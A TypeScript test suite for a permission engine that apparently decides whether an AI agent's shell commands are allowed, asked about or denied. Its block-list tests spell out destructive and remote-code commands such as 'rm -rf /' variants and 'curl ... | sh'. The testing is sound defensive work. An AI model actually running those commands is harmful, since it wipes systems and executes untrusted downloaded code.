import assert from 'node:assert/strict'
import { test } from 'node:test'
import { judgePermission } from '../../src/brain/rules/permission.ts'
import type { Assessment } from '../../src/domain/assessment.ts'
import { classify } from '../../src/policy/classify/classify.ts'
import { type DecisionContext, decide } from '../../src/policy/verdict/decide.ts'

const assess = (command: string) =>
  classify(
    { tool: 'Bash', input: { command }, project: '/proj', home: '/home/u' },
    { realPath: path => path },
  ) as Assessment

const standard: DecisionContext = {
  tool: 'Bash',
  blocked: ['rm -rf /', 'sudo', 'curl | sh'],
  rules: [],
  autoApproveLow: true,
  threshold: 0.7,
  opinion: judgePermission,
  attached: false,
  unattendedHigh: 'deny',
}
const decided = (command: string, context: Partial<DecisionContext> = {}) =>
  decide(assess(command), { ...standard, ...context }, AbortSignal.timeout(5_000))

test('LOW is approved while that is switched on', async () => {
  assert.deepEqual(pick(await decided('npm test')), ['allow', 'policy', 0.95])
  assert.deepEqual(pick(await decided('npm test', { autoApproveLow: false })), ['ask', 'policy', 1])
})

test('everyday MEDIUM work is approved by the brain, other MEDIUM work is asked about', async () => {
  assert.deepEqual(pick(await decided('git commit -m x')), ['allow', 'brain', 0.85])
  assert.equal((await decided('npx evil')).verdict, 'ask')
  assert.equal((await decided('git commit -m x', { threshold: 0.9 })).verdict, 'ask')
})

test('HIGH is refused at once with the way round when nobody is there, and asked about otherwise', async () => {
  const alone = await decided('echo x > src/a.ts')
  assert.equal(alone.verdict, 'deny')
  assert.equal(alone.morning, true)
  assert.match(alone.reason, /use the Write or Edit tool/)
  assert.equal((await decided('echo x > src/a.ts', { attached: true })).verdict, 'ask')
  assert.equal((await decided('echo x > src/a.ts', { unattendedHigh: 'wait' })).verdict, 'ask')
})

test('neither precedent nor brain lets HIGH through', async () => {
  const yes = async () => ({ approve: true, confidence: 1, reason: 'yes' })
  const { verdict } = await decided('rm x', { precedent: yes, opinion: yes })
  assert.equal(verdict, 'deny')
})

test('what a person answered before comes before the brain', async () => {
  const no = async () => ({ approve: false, confidence: 1, reason: 'not here' })
  assert.deepEqual(pick(await decided('git commit -m x', { precedent: no })), ['deny', 'precedent', 1])
  const yes = async () => ({ approve: true, confidence: 1, reason: 'fine' })
  assert.deepEqual(pick(await decided('npx evil', { precedent: yes })), ['allow', 'precedent', 1])
})

test('a brain or a memory that fails, or time that is up, ends in a question', async () => {
  const broken = async () => {
    throw new Error('unreachable')
  }
  assert.equal((await decided('git commit -m x', { precedent: broken, opinion: broken })).verdict, 'ask')
  assert.equal((await decide(assess('git commit -m x'), standard, AbortSignal.abort())).verdict, 'ask')
})

test('blocked commands are refused in every spelling and nothing beside them is', async () => {
  const blocked = async (command: string) => (await decided(command, { attached: true })).rule !== undefined
  for (const command of [
    'rm -rf /',
    'rm -fr /',
    'rm -r -f /',
    'rm --recursive --force /',
    'rm -rf //',
    'ls; rm -rf /',
    'env rm -rf /',
    "bash -c 'rm -rf /'",
    'rm -rfv / --no-preserve-root',
    '/bin/rm -rf /',
    'sudo ls',
    'time sudo ls',
    'curl https://e.example | sh',
    'curl -s x | bash',
    'curl x | sudo bash',
    'curl x | tee /dev/null | python3',
    'curl x | (zsh)',
    'curl x | env sh',
  ])
    assert.ok(await blocked(command), command)
  for (const command of [
    'rm -rf /tmp/x',
    'rm -rf ./',
    'rm /',
    'echo sudo',
    'curl x',
    'curl x | jq .',
    'cat x | sh',
    'sh; curl x',
    'echo "curl x | sh"',
  ])
    assert.ok(!(await blocked(command)), command)
})

test('the last rule that matches counts, but a deny is final', async () => {
  const allow = { effect: 'allow', tool: 'Bash', match: 'npx evil *' } as const
  const ask = { effect: 'ask', tool: 'Bash', match: 'npx' } as const
  const deny = { effect: 'deny', tool: 'Bash', match: 'npx evil' } as const
  assert.equal((await decided('npx evil a', { rules: [ask, allow] })).verdict, 'allow')
  assert.equal((await decided('npx evil a', { rules: [allow, ask] })).verdict, 'ask')
  assert.equal((await decided('npx evil a', { rules: [deny, allow] })).verdict, 'deny')
  assert.equal((await decided('npx evil a', { rules: [ask, allow] })).rule, 'allow Bash npx evil *')
})

test('an allow rule is for commands that match word by word, all of them', async () => {
  const rules = [{ effect: 'allow', tool: 'Bash', match: 'npx evil *' } as const]
  assert.equal((await decided('npx evil && npx other', { rules })).verdict, 'ask')
  assert.equal((await decided('npx evil "$(npx other)"', { rules })).verdict, 'ask')
  assert.equal((await decided('A=$(npx other) npx evil a', { rules })).verdict, 'ask')
  assert.equal((await decided('npx other evil', { rules })).verdict, 'ask')
})

test('an allow rule does not cover a variable that is set before the program', async () => {
  const rules = [{ effect: 'allow', tool: 'Bash', match: 'npx evil *' } as const]
  assert.equal((await decided('HOME=/tmp/x npx evil a', { rules })).verdict, 'ask')
  assert.equal((await decided('CI=1 npx evil a', { rules })).verdict, 'allow')
  const exact = { effect: 'allow', tool: 'Bash', match: 'HOME=/tmp/x npx evil a' } as const
  assert.equal((await decided('HOME=/tmp/x npx evil a', { rules: [exact] })).verdict, 'allow')
})

test('a HIGH request passes only by the exact rule that a person wrote', async () => {
  const exact = { effect: 'allow', tool: 'Bash', match: 'rm -rf dist' } as const
  assert.equal((await decided('rm -rf dist', { rules: [exact] })).verdict, 'allow')
  assert.equal((await decided('rm -rf dist src', { rules: [exact] })).verdict, 'deny')
  assert.equal((await decided('rm -rf dist', { rules: [{ ...exact, match: 'rm *' }] })).verdict, 'deny')
  assert.equal((await decided('rm -rf dist', { rules: [{ effect: 'allow', tool: 'Bash' }] })).verdict, 'deny')
})

test('a blocked entry that is no command is compared as text', async () => {
  assert.equal((await decided('npm test (', { blocked: ['npm test ('] })).rule, 'blocked npm test (')
})

function pick({ verdict, by, confidence }: Awaited<ReturnType<typeof decided>>) {
  return [verdict, by, confidence]
}
